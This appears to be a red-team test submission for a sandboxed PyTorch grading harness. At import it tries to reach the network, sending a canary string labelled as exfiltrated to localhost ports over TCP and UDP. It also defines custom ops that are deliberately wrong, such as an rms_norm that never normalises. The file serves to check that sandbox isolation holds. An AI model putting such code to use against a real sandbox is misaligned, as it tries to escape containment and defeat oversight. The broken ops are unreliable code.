# expect: wrong_answer
# needs: network
"""Attack: reach the network: TCP connects and UDP datagrams to 127.0.0.1 / ::1 on ports
47000-47010 (the red-team test listens on one of them), each carrying this submission's canary.
Stopped by: a network namespace with no interfaces up (and seccomp refusing inet sockets)."""

import socket

import torch
from torch import Tensor

MESSAGE = b"@@CANARY@@ exfiltrated over the network\n"
_reached = []
for _family, _host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for _port in range(47000, 47011):
        try:
            with socket.socket(_family, socket.SOCK_STREAM) as _s:
                _s.settimeout(0.3)
                _s.connect((_host, _port))
                _s.sendall(MESSAGE)
                _reached.append(f"tcp:{_host}:{_port}")
        except OSError:
            pass
        try:
            with socket.socket(_family, socket.SOCK_DGRAM) as _s:
                _s.sendto(MESSAGE, (_host, _port))
                _reached.append(f"udp:{_host}:{_port}")
        except OSError:
            pass
print("reached", _reached, flush=True)

# ---------------------------------------------------------------- wrong ops (the honest part of this file)

@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    return x * weight  # wrong: never normalises (and no backward is registered)


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
